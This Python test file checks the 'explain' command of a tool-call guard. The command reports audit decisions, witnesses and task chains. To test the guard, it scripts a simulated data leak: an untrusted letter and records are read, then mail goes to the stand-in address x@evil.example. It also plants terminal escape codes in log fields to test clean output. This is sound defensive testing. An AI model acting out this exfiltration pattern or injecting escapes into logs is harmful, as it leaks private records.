"""`guardtrail explain`: one decision, and the chain it stood in with its witnesses, pivots, asks and end."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from guard import Denied, Guard, LocalIssuer, Policy, ToolCall
from guard.record import AuditFile
from tests.cli.conftest import Run
from tests.runtime.test_late import World

POLICY = """\
guardtrail: 1
name: letters
owner: desk@acme.example
tools:
  read_record: {effect: read, control: {record: id}, returns: none}
  read_letter: {effect: read, control: {letter: id}, returns: {format: text, labels: [untrusted]}}
  send: {effect: send, control: {to: email}, returns: none}
  close: {effect: write, returns: none}
intents:
  desk:
    description: Read and answer.
    allow:
      read_record: {args: {record: {any: true}}}
      read_letter: {args: {letter: {any: true}}}
      send: {args: {to: {any: true}}}
      close: {}
rules:
  - {id: no-leak, when: {tool: send}, forbid_after: [{label: untrusted}, {tool: read_record}], then: ask}
  - {id: log-closed, when: task.end, require_before: {tool: close, outcome: ok}}
"""


class Story:
    """A guard that records into the desk's folder, and the ids of what it decided."""

    def __init__(self, folder: Path) -> None:
        self.iam = LocalIssuer("acme-dev")
        self.sink = AuditFile(folder)
        self.guard = Guard(Policy.from_text(POLICY), trust=self.iam, sinks=[self.sink])

    def token(self, txn: str, *actors: str) -> str:
        return self.iam.mint(origin="alice", actor=actors or "clerk", intent="desk", txn=txn)

    def call(self, tool: str, **args: object) -> str:
        try:
            self.guard.call(ToolCall(tool, args), lambda **_: "text")
        except Denied as denied:
            return denied.decision.id
        return ""

    def leak(self, txn: str = "t-1", reads: int = 1, after: int = 0) -> str:
        """A letter, records, a mail that must ask; the task is not closed as it should be."""
        found = ""
        with pytest.raises(Denied, match="task.end"):
            with self.guard.task(self.token(txn)):
                self.call("read_letter", letter="L-1")
                for n in range(reads):
                    self.call("read_record", record=f"R-{n}")
                with self.guard.task(self.token(txn, "clerk", "mailer")):
                    found = self.call("send", to="x@evil.example")
                for n in range(after):
                    self.call("read_record", record=f"R-{n}")
        return found


@pytest.fixture
def story(desk: Path) -> Iterator[Story]:
    made = Story(desk / ".guardtrail")
    yield made
    made.sink.close()


def test_the_chain_of_a_decision(cli: Run, story: Story) -> None:
    said = cli("explain", story.leak())
    assert said.code == 0
    plain = [re.sub(r" {2,}", " | ", re.sub(r"acme-dev/[\w-]+", "acme-dev/X", line.strip())) for line in said.lines]
    assert re.fullmatch(r"ask \| send\(args: not captured, hmac \w{8}\) \| step 3 of task t-1, [\d-]+ [\d:]+ UTC", plain[0])
    assert re.fullmatch(r"who \| p-\w+ > clerk > mailer \| credential acme-dev/X \(local issuer\) \| workload local", plain[1])
    at = next(i for i, line in enumerate(plain) if line.startswith("ask | rule.forbid_after"))
    assert "rule no-leak:" in plain[at]
    assert plain[at].endswith("witness step 1, step 2")
    at = plain.index("task t-1: 3 decisions")
    assert plain[at + 1 :] == [
        "# | tool | decision | outcome | why",
        "* | 1 | read_letter | allow | ok | witness of no-leak; " + plain[at + 2].rpartition("; ")[2],
        "* | 2 | read_record | allow | ok | witness of no-leak; " + plain[at + 3].rpartition("; ")[2],
        "pivot | another credential and actor: now clerk > mailer, credential acme-dev/X, before acme-dev/X",
        plain[at + 5],
        "task.end | deny | task.end: rule log-closed",
    ]
    assert plain[at + 5].startswith("> | 3 | send | ask | not_executed | rule.forbid_after: ")


def test_a_long_task_is_cut(cli: Run, story: Story) -> None:
    found = story.leak(reads=60, after=60)
    said = cli("explain", found)
    assert "task t-1: 122 decisions, 44 shown: the ends, witnesses, asks, steps around this one (`--all`: every one)" in said.lines
    steps = [line.split() for line in said.lines if re.match(r"\s+[*>]?\s+(\d+|\.\.\.)\s", line)]
    assert steps[0][:3] == ["*", "1", "read_letter"]
    assert [row[:3] for row in steps if row[0] == "..."] == [["...", "39", "steps"], ["...", "39", "steps"]]
    assert steps[-1][0] == "122"
    whole = cli("explain", found, "--all")
    assert "task t-1: 122 decisions" in whole.lines
    assert len([line for line in whole.lines if re.match(r"\s+\*?\s+\d+\s+read_record ", line)]) == 120


def test_a_witness_far_away_is_shown(cli: Run, story: Story) -> None:
    with story.guard.task(story.token("t-2")):
        story.call("read_record", record="R")
        story.call("read_letter", letter="L")
        for _ in range(50):
            story.call("close")
        found = story.call("send", to="x@evil.example")
    marked = [line.split()[1:3] for line in cli("explain", found).lines if line.strip().startswith("*")]
    assert ["2", "read_letter"] in marked


def test_json(cli: Run, story: Story) -> None:
    found = story.leak(reads=60)
    got = cli("explain", found, "--json").json
    assert set(got) == {"decision", "chain", "notes", "decisions", "omitted"}
    assert got["decision"]["id"] == found
    assert (got["decisions"], got["omitted"]) == (62, 62 - len(got["chain"]))
    assert got["omitted"] > 0
    assert got["chain"][0]["witness_of"] == ["no-leak"]
    assert got["chain"][-1]["outcome"] == "not_executed"
    assert [note["kind"] for note in got["notes"]] == ["pivot", "task"]
    assert cli("explain", found, "--json", "--all").json["omitted"] == 0


def test_other_tasks_are_not_its_chain(cli: Run, story: Story) -> None:
    story.leak("t-other")
    assert "t-other" not in cli("explain", story.leak("t-1")).out


def test_several_files_are_one_log(cli: Run, story: Story, desk: Path) -> None:
    """The outcome and the witness may stand in another file than the decision, read before or after it."""
    found = story.leak()
    story.sink.close()
    log = desk / ".guardtrail" / "audit.jsonl"
    lines = log.read_bytes().splitlines(keepends=True)
    for name, own in (("audit-00.jsonl", lines[1::2]), ("audit-zz.jsonl", lines[2::4])):
        (desk / ".guardtrail" / name).write_bytes(b"".join(own))
    log.write_bytes(b"".join(lines[0::4]))
    said = cli("explain", found)
    assert "task t-1: 3 decisions" in said.lines
    assert len([line for line in said.lines if line.strip().startswith("*") and " ok " in line]) == 2


def test_a_prefix_if_there_is_but_one(cli: Run, story: Story) -> None:
    found = story.leak()
    end = next(n for n in range(1, 27) if cli("explain", found[:n]).code == 0)
    assert cli("explain", found[:end]).out == cli("explain", found).out
    several = cli("explain", found[:4])
    assert several.code == 2
    assert f"3 decisions begin with {found[:4]}" in several.err
    assert f"  {found}  ask  send" in several.err


def test_ids_are_taken_for_what_they_look_like(cli: Run, story: Story) -> None:
    found = story.leak()
    assert cli("explain", found.lower().replace("0", "o").replace("1", "l")).code == 0


def test_an_unknown_id_names_the_nearest(cli: Run, story: Story) -> None:
    found = story.leak()
    said = cli("explain", found[:20] + "ZZZZZZ")
    assert said.code == 3
    assert f"begins with {found[:20]}ZZZZZZ; the nearest are:" in said.err
    assert f"  {found}  ask  send" in said.err
    assert "nearest" not in cli("explain", "ZZZZ").err


def test_the_end_of_an_ordinary_task(cli: Run, story: Story) -> None:
    with story.guard.task(story.token("t-3")):
        story.call("close")
    last = cli("explain", "last")
    assert [line.split() for line in last.lines[-1:]] == [["task.end", "allow"]]


def test_records_that_are_not_as_we_write_them(cli: Run, story: Story, desk: Path) -> None:
    """Whoever wrote them: no traceback, and nothing of them moves the cursor."""
    found = story.leak()
    story.sink.close()
    log = desk / ".guardtrail" / "audit.jsonl"
    strange = []
    for line in log.read_text("utf-8").splitlines():
        row = json.loads(line)
        for name in ("step", "at", "witnesses", "findings", "actors", "changed", "rules", "verdict"):
            if name in row and row.get("id") != found:
                row[name] = {"\x1b[31m": None}
        strange.append(json.dumps(row))
    log.write_text("\n".join(strange), "utf-8")
    said = cli("explain", found)
    assert said.code == 0
    assert "\x1b" not in said.out


def test_a_call_that_stopped_its_task_when_it_had_ended(tmp_path: Path, cli: Run) -> None:
    world = World(tmp_path, "memory")
    with world.guard.task(world.iam.mint(origin="alice", actor="clerk", intent="work", ttl="10m", txn="t1")):
        world.guard.call(ToolCall("pay", {"to": "bob", "amount": "10"}), lambda **_: world.say({"device.compliant": False}))
        assert world.verdict() == "deny task.suspended"
    shown = cli("explain", world.outcomes()[0]["decision"], "--dir", str(tmp_path))
    assert "late     rule sound: signal device.compliant" in shown.out and "suspended when the call had ended" in shown.out
    chain = cli("explain", "last", "--dir", str(tmp_path))
    assert "rule sound suspended the task" in chain.out and "then suspended by rule sound" in " ".join(chain.out.split())
    rows = json.loads(cli("explain", "last", "--dir", str(tmp_path), "--json").out)
    assert rows["chain"][0]["late"]["rule"] == "sound" and rows["chain"][0]["witness_of"] == ["sound"]
